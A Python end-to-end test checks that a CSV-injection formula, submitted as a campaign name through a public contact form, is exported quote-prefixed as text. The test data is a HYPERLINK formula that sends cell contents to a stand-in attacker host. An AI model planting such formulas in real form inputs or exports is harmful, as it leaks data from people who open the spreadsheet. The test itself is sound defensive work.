"""A campaign name planted by a public form post opens as text in the CSV export, never as
a formula (OWASP "CSV Injection"): the cell is prefixed with a quote."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import httpx

from leadflow.testing import wait_until

ORIGIN = "https://www.example.org"


async def test_formula_planted_in_a_form_post_is_text_in_the_campaign_export(
    e2e_stack: Any,
) -> None:
    stack = await e2e_stack()
    e = stack.endpoints
    admin = {"Authorization": f"Bearer {e.admin_token}"}
    formula = f'=HYPERLINK("http://evil.example/?"&A1,"{uuid.uuid4().hex[:6]}")'
    async with httpx.AsyncClient(timeout=30, headers=admin) as client:  # reports need one
        form = await client.put(
            f"{e.intake}/v1/admin/forms/contact-us",
            headers=admin,
            json={"name": "Contact us", "allowed_origins": [ORIGIN]},
        )
        assert form.status_code in (200, 201), form.text
        posted = await client.post(
            f"{e.intake}/v1/forms/contact-us",
            headers={"Origin": ORIGIN, "Accept": "application/json"},
            data={"email": f"p{uuid.uuid4().hex[:8]}@acme.io", "utm_campaign": formula},
        )
        assert posted.status_code == 202, posted.text

        rows: list[dict[str, str]] = []

        async def exported() -> bool:
            nonlocal rows
            r = await client.get(
                f"{e.analytics}/v1/sources",
                headers=admin,
                params={"group_by": "campaign", "format": "csv"},
            )
            assert r.status_code == 200, r.text
            assert r.headers["content-type"].startswith("text/csv")
            rows = list(csv.DictReader(io.StringIO(r.text)))
            return any(formula in " ".join(row.values()) for row in rows)

        await wait_until(exported, timeout=90, message="the campaign in the export")
    cells = [v for row in rows for v in row.values() if formula in v]
    assert cells == ["'" + formula]
